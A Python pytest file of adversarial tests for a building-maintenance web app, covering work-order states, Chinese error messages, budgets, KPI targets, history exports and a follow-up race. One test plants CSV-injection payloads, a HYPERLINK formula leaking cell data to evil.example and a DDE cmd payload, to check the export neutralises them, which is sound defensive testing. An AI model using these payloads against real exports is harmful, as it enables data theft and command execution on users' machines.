"""Hostile review of issues 14 and 15 (work orders from alarm to closed, history file, budgets,
KPIs, report): each test asserts the behaviour the issues ask for and failed when written."""

from __future__ import annotations

import csv
import io
import re
import threading
from datetime import UTC, date, datetime, timedelta
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine, update
from sqlalchemy.orm import Session

from bldgwatch.console.models import AuditRow
from bldgwatch.core.clock import ManualClock
from bldgwatch.maintenance.models import EquipmentRow, SiteRow
from tests.console.conftest import ClientFactory
from tests.console.seed import add, alarm, assets, at

NOW = datetime(2026, 3, 20, 2, 0, tzinfo=UTC)  # 10:00 in Shanghai
CJK = re.compile(r"[\u4e00-\u9fff]")
ZH = {"Accept-Language": "zh-CN"}
PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00"
    b"\x00\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N"
    b"\x00\x00\x00\x00IEND\xaeB`\x82"
)


class Desk:
    """Clients of the demo site's people on one database and clock."""

    def __init__(self, make_client: ClientFactory, engine: Engine) -> None:
        self.clock = ManualClock(NOW)
        add(engine, *assets())
        self.sup = make_client(engine, clock=self.clock, user="supervisor")
        self.tech = make_client(engine, clock=self.clock, user="tech")
        self.tech2 = make_client(engine, clock=self.clock, user="tech2")

    def request(self, title: str = "pump noisy", equipment: str = "P-01") -> int:
        resp = self.sup.post(
            "/api/work-orders",
            json={"site": "demo", "equipment": equipment, "title": title, "priority": 2},
        )
        assert resp.status_code == 201, resp.text
        return int(resp.json()["id"])

    def started(self) -> int:
        """An order assigned to `tech` and in progress."""
        oid = self.request()
        ok(self.sup.post(f"/api/work-orders/{oid}/assign", json={"technician": "tech"}))
        ok(self.tech.post(f"/api/work-orders/{oid}/transition", json={"to": "in_progress"}))
        return oid

    def resolved(self) -> int:
        oid = self.started()
        ok(self.tech.post(f"/api/work-orders/{oid}/resolve", json={"summary": "fixed"}))
        return oid

    def order(self, oid: int) -> dict[str, Any]:
        return ok(self.sup.get(f"/api/work-orders/{oid}"))


def ok(resp: Any) -> dict[str, Any]:
    assert resp.status_code in (200, 201), resp.text
    body: dict[str, Any] = resp.json()
    return body


@pytest.fixture
def desk(make_client: ClientFactory, sqlite_db: Engine) -> Desk:
    return Desk(make_client, sqlite_db)


def assert_chinese_problem(resp: Any, status: int) -> None:
    assert resp.status_code == status, resp.text
    assert resp.headers["content-type"].startswith("application/problem+json")
    detail = resp.json()["detail"]
    assert CJK.search(detail), f"English detail in a zh-CN problem: {detail!r}"


# -- 1. English problem details on the work-order record routes --------------------------------
def test_record_route_404_speaks_chinese(desk: Desk) -> None:
    """A zh-CN reader commenting on an order that does not exist reads Chinese."""
    resp = desk.sup.post("/api/work-orders/999/comments", json={"text": "hi"}, headers=ZH)
    assert_chinese_problem(resp, 404)


def test_resolving_a_cancelled_order_409_speaks_chinese(desk: Desk) -> None:
    oid = desk.started()
    ok(desk.sup.post(f"/api/work-orders/{oid}/cancel", json={"reason": "duplicate"}))
    resp = desk.sup.post(f"/api/work-orders/{oid}/resolve", json={"summary": "done"}, headers=ZH)
    assert_chinese_problem(resp, 409)


def test_technician_refused_403_speaks_chinese(desk: Desk) -> None:
    oid = desk.started()  # tech's order; tech2 may not resolve it
    resp = desk.tech2.post(f"/api/work-orders/{oid}/resolve", json={"summary": "x"}, headers=ZH)
    assert_chinese_problem(resp, 403)


def test_unknown_part_422_speaks_chinese(desk: Desk) -> None:
    oid = desk.started()
    resp = desk.tech.post(
        f"/api/work-orders/{oid}/bookings",
        json={"parts": [{"part_no": "NO-SUCH", "quantity": 1}]},
        headers=ZH,
    )
    assert_chinese_problem(resp, 422)


def test_kpis_of_unknown_building_404_speaks_chinese(desk: Desk) -> None:
    resp = desk.sup.get("/api/kpis/maintenance?site=demo&building=NOPE", headers=ZH)
    assert_chinese_problem(resp, 404)


def test_report_for_a_month_without_figures_speaks_chinese(desk: Desk) -> None:
    resp = desk.sup.get("/api/reports/demo/2199-12.html", headers=ZH)
    assert_chinese_problem(resp, 404)


# -- 2. /transition bypasses what the record routes require ------------------------------------
def test_transition_cannot_resolve_without_a_summary(desk: Desk) -> None:
    """Issue 15: resolve *with a summary*; /transition to resolved lets a technician skip it."""
    oid = desk.started()
    resp = desk.tech.post(f"/api/work-orders/{oid}/transition", json={"to": "resolved"})
    order = desk.order(oid)
    assert resp.status_code in (400, 409, 422), resp.text
    assert order["status"] == "in_progress"


def test_transition_cannot_cancel_without_a_reason(desk: Desk) -> None:
    """Issue 15: cancel *with a reason*; /transition to cancelled skips it."""
    oid = desk.request()
    resp = desk.sup.post(f"/api/work-orders/{oid}/transition", json={"to": "cancelled"})
    assert resp.status_code in (400, 409, 422), resp.text
    assert desk.order(oid)["status"] == "open"


def test_transition_cannot_verify_without_a_follow_up(desk: Desk) -> None:
    """Issue 15: 回访 with outcome and satisfaction verifies; a bare move to verified leaves
    a verified order without any follow-up (the complaint the issue opened with)."""
    oid = desk.resolved()
    resp = desk.sup.post(f"/api/work-orders/{oid}/transition", json={"to": "verified"})
    order = desk.order(oid)
    assert resp.status_code in (400, 409, 422) or order["record"]["follow_ups"], resp.text


# -- 3. money -------------------------------------------------------------------------------
def test_labour_route_books_listed_part_at_its_list_cost(desk: Desk) -> None:
    """Parts come from the parts list with its unit cost; /labour books them at 0."""
    oid = desk.started()
    ok(
        desk.tech.post(
            f"/api/work-orders/{oid}/labour",
            json={"parts": [{"part_no": "6205-2RS", "quantity": 2}]},
        )
    )
    assert desk.order(oid)["record"]["cost_by_category"]["parts"] == pytest.approx(91.0)


def test_kpi_target_refuses_infinity(make_client: ClientFactory, db: Engine) -> None:
    """`Infinity` is not a target. Accepted now: SQLite stores it and reads it back as null;
    on PostgreSQL the target is committed but the audit row (JSON) cannot hold `inf`, so the
    change is answered 200 and then fails, leaving no audit record of who set it."""
    desk = Desk(make_client, db)
    sup = make_client(db, clock=desk.clock, user="supervisor", raise_server_exceptions=False)
    resp = sup.put(
        "/api/kpi-targets/demo",
        content=b'{"targets": {"cost_vs_budget": Infinity}}',
        headers={"Content-Type": "application/json"},
    )
    assert resp.status_code == 422, resp.text
    targets = ok(sup.get("/api/kpi-targets/demo"))["targets"]
    assert all(t["target"] is not None for t in targets), targets


def test_supervisor_cannot_book_labour_of_an_unknown_technician(desk: Desk) -> None:
    """Labour is booked for a person of the site, not any string."""
    oid = desk.started()
    resp = desk.sup.post(
        f"/api/work-orders/{oid}/bookings",
        json={"labour": [{"technician": "ghost", "hours": 8, "rate": 500}]},
    )
    assert resp.status_code in (404, 409, 422), resp.text


# -- 4. state machine -------------------------------------------------------------------------
def test_completion_record_on_an_unworked_open_order_is_refused(
    desk: Desk, sqlite_db: Engine
) -> None:
    """Nobody worked the order: a 大修 recorded on it must not renew the pump's age."""
    oid = desk.request()
    resp = desk.sup.post(f"/api/work-orders/{oid}/completion", json={"repair_class": "major"})
    with Session(sqlite_db) as session:
        pump = session.get(EquipmentRow, ("demo", "P-01"))
        assert pump is not None
        overhaul = pump.last_overhaul
    assert resp.status_code == 409, resp.text
    assert overhaul is None


def test_no_attachment_on_a_cancelled_order(desk: Desk) -> None:
    """The order page offers no attach on a cancelled order; the API must agree."""
    oid = desk.request()
    ok(desk.sup.post(f"/api/work-orders/{oid}/cancel", json={"reason": "duplicate"}))
    resp = desk.sup.post(
        f"/api/work-orders/{oid}/attachments", files={"file": ("p.png", PNG, "image/png")}
    )
    assert resp.status_code == 409, resp.text


# -- 5. KPIs for a site managed from a month to come --------------------------------------
def test_trend_of_a_site_managed_from_next_month_is_not_a_500(
    desk: Desk, make_client: ClientFactory, sqlite_db: Engine
) -> None:
    with Session(sqlite_db) as session, session.begin():
        session.execute(update(SiteRow).where(SiteRow.id == "demo").values(since=date(2026, 5, 1)))
    sup = make_client(sqlite_db, clock=desk.clock, user="supervisor", raise_server_exceptions=False)
    resp = sup.get("/api/kpis/maintenance/trend?site=demo")
    assert resp.status_code in (200, 404), resp.text
    if resp.status_code == 200:
        assert resp.json()["months"] == []


def test_kpis_start_is_not_after_end_for_a_site_managed_from_later_this_month(
    desk: Desk, sqlite_db: Engine
) -> None:
    """Managed from 25 March, asked on 20 March: no figures yet (404), not a window whose
    start lies after its end."""
    with Session(sqlite_db) as session, session.begin():
        session.execute(update(SiteRow).where(SiteRow.id == "demo").values(since=date(2026, 3, 25)))
    resp = desk.sup.get("/api/kpis/maintenance?site=demo&month=2026-03")
    if resp.status_code == 200:
        body = resp.json()
        assert body["start"] <= body["end"], body
    else:
        assert resp.status_code == 404, resp.text


# -- 6. the history file --------------------------------------------------------------------
def _csv(desk: Desk, lang: str = "en") -> list[list[str]]:
    resp = desk.sup.get(f"/api/equipment/demo/P-01/history.csv?lang={lang}")
    assert resp.status_code == 200, resp.text
    return list(csv.reader(io.StringIO(resp.content.decode("utf-8-sig"))))


def test_history_csv_neutralises_formulas(desk: Desk) -> None:
    """An owner's request titled `=HYPERLINK(…)` and a contractor named `=cmd|…` must not
    reach a spreadsheet as formulas (OWASP CSV injection)."""
    oid = desk.request(title='=HYPERLINK("http://evil.example/?x="&A1,"open")')
    ok(desk.sup.post(f"/api/work-orders/{oid}/assign", json={"technician": "tech"}))
    ok(
        desk.sup.post(
            f"/api/work-orders/{oid}/bookings",
            json={"charges": [{"contractor": "=cmd|' /C calc'!A0", "amount": 10}]},
        )
    )
    cells = [c for row in _csv(desk) for c in row]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@") and not _number(c)]
    assert not dangerous, dangerous


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_history_csv_in_chinese_has_chinese_headers_and_kinds(desk: Desk) -> None:
    desk.request()
    rows = _csv(desk, "zh-CN")
    assert CJK.search(",".join(rows[0])), rows[0]
    assert all(CJK.search(r[1]) for r in rows[1:]), rows[1:]


def test_history_stage_reason_in_chinese(desk: Desk) -> None:
    """The page shows `stage.reason` as it is: in zh-CN it must be Chinese (issue 14: stage
    reasons in both languages)."""
    body = ok(desk.sup.get("/api/equipment/demo/P-01/history", headers=ZH))
    assert CJK.search(body["stage"]["reason"]), body["stage"]


def test_history_file_of_another_sites_equipment_is_404(
    desk: Desk, make_client: ClientFactory, sqlite_db: Engine
) -> None:
    """Held when written; kept as the cross-site guard of the new routes."""
    outsider: TestClient = make_client(sqlite_db, clock=desk.clock, user="outsider")
    for suffix in ("", ".csv", ".pdf"):
        assert outsider.get(f"/api/equipment/demo/P-01/history{suffix}").status_code == 404
    assert desk.sup.get("/api/equipment/north/P-01/history").status_code == 404
    oid = desk.request()
    assert outsider.get(f"/api/work-orders/{oid}").status_code == 404
    assert outsider.post(f"/api/work-orders/{oid}/comments", json={"text": "x"}).status_code == 404
    assert outsider.get("/api/reports/demo/2026-03.html").status_code in (403, 404)


def test_follow_up_rate_counts_only_real_follow_ups(desk: Desk) -> None:
    """回访率 counts orders that had a 回访; a bare move to verified (no outcome, no score, no
    follow-up row) must not count as one."""
    oid = desk.started()
    desk.clock.advance(timedelta(minutes=2))
    ok(desk.tech.post(f"/api/work-orders/{oid}/resolve", json={"summary": "fixed"}))
    desk.clock.advance(timedelta(minutes=2))
    ok(desk.sup.post(f"/api/work-orders/{oid}/transition", json={"to": "verified"}))
    desk.clock.advance(timedelta(minutes=2))
    body = ok(desk.sup.get("/api/kpis/maintenance?site=demo&month=2026-03"))
    assert desk.order(oid)["record"]["follow_ups"] == []
    assert body["figures"]["follow_up_rate"] == 0.0, body["figures"]


def test_labour_route_caps_parts_like_bookings(desk: Desk) -> None:
    """/bookings takes at most 100 parts a request; /labour (and /transition) take any number:
    one request of 5,000 zero-cost lines floods the order's timeline and history file."""
    oid = desk.started()
    resp = desk.tech.post(
        f"/api/work-orders/{oid}/labour", json={"parts": [{"part_no": "6205-2RS"}] * 101}
    )
    assert resp.status_code == 422, resp.text[:300]


def test_budget_of_year_zero_is_refused(desk: Desk) -> None:
    """A budget for year 0000 is stored (201) though no one can ever read it back (GET takes
    2000–2100): refuse what cannot be shown."""
    resp = desk.sup.post(
        "/api/budgets/demo", json={"period": "0000", "category": "parts", "amount": 1}
    )
    assert resp.status_code == 422, resp.text


def test_repair_request_for_unknown_equipment_speaks_chinese(desk: Desk) -> None:
    resp = desk.sup.post(
        "/api/work-orders", json={"site": "demo", "equipment": "NOPE", "title": "x"}, headers=ZH
    )
    assert_chinese_problem(resp, 404)


def test_every_committed_target_change_is_audited(make_client: ClientFactory, db: Engine) -> None:
    """Whatever the value, a target change that was committed has its audit row (on
    PostgreSQL the JSON column refuses `inf` and the row is lost after the change)."""
    desk = Desk(make_client, db)
    sup = make_client(db, clock=desk.clock, user="supervisor", raise_server_exceptions=False)
    sup.put(
        "/api/kpi-targets/demo",
        content=b'{"targets": {"cost_vs_budget": Infinity}}',
        headers={"Content-Type": "application/json"},
    )
    history = ok(sup.get("/api/kpi-targets/demo"))["history"]
    with Session(db) as session:
        audited = session.query(AuditRow).filter_by(action="kpi_targets.set").count()
    assert audited == len(history), (audited, history)


def test_history_life_total_counts_every_alarm(desk: Desk, sqlite_db: Engine) -> None:
    """The file lists up to 500 alarms, but its *life total* must count them all: a pump
    with 510 alarms is not a pump with 500."""
    add(
        sqlite_db,
        *[
            alarm(f"A-{i}", i, is_open=False, state="normal", cleared_at=at(i + 0.5))
            for i in range(510)
        ],
    )
    body = ok(desk.sup.get("/api/equipment/demo/P-01/history"))
    assert body["totals"]["alarms"] == 510, body["totals"]


def test_concurrent_follow_ups_record_one(make_client: ClientFactory, sqlite_db: Engine) -> None:
    """Three supervisors record the 回访 of one resolved order while three others comment on
    it: one follow-up succeeds, the others get 409 (the order is no longer resolved). On
    SQLite the status check and the write are not one transaction (`with_for_update` does
    nothing there), so two follow-ups may land and the order is sent back twice. A race: it
    is run on ten orders (about one round in four doubled when this was written)."""
    desk = Desk(make_client, sqlite_db)
    clients = [
        make_client(sqlite_db, clock=desk.clock, user="supervisor", raise_server_exceptions=False)
        for _ in range(6)
    ]
    doubled = []
    for _ in range(10):
        oid = desk.resolved()
        codes = _race_follow_ups(clients, oid)
        follow_ups = desk.order(oid)["record"]["follow_ups"]
        if sorted(codes) != [200, 409, 409] or len(follow_ups) != 1:
            doubled.append((oid, codes, len(follow_ups)))
    assert not doubled, doubled


def _race_follow_ups(clients: list[TestClient], oid: int) -> list[int]:
    codes: list[int] = []
    start = threading.Barrier(len(clients))

    def follow_up(client: TestClient) -> None:
        start.wait()
        body = {"outcome": "not_satisfied", "satisfaction": 2}
        codes.append(client.post(f"/api/work-orders/{oid}/follow-up", json=body).status_code)

    def comment(client: TestClient) -> None:
        start.wait()
        client.post(f"/api/work-orders/{oid}/comments", json={"text": "业主来电"})

    threads = [
        threading.Thread(target=follow_up if i % 2 else comment, args=(c,))
        for i, c in enumerate(clients)
    ]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return codes
